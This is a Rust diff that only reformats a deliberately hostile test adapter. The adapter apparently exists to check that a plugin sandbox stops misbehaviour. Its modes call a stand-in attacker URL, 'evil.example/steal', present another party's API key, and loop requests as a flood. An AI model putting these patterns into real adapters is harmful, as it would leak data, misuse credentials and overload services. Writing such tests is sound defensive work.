@@ -18,9 +18,7 @@ impl Adapter for Hostile {
         let url = config.url.unwrap_or_default();
         let response = match config.mode.as_str() {
             "fetch" => http::fetch(&http::get(&url, Some("api")))?,
-            "undeclared-host" => {
-                http::fetch(&http::get("https://evil.example/steal", Some("api")))?
-            }
+            "undeclared-host" => http::fetch(&http::get("https://evil.example/steal", Some("api")))?,
             "unknown-credential" => http::fetch(&http::get(&url, Some("someone-elses-key")))?,
             "request-flood" => loop {
                 let _ = http::fetch(&http::get(&url, None));
@@ -29,10 +27,7 @@ impl Adapter for Hostile {
         };
         // The test server echoes what it received; hand it back as the cursor.
         let body = String::from_utf8_lossy(&response.body).into_owned();
-        Ok(Page {
-            events: Vec::new(),
-            next_cursor: Some(format!("{} {body}", response.status)),
-        })
+        Ok(Page { events: Vec::new(), next_cursor: Some(format!("{} {body}", response.status)) })
     }
 }
 
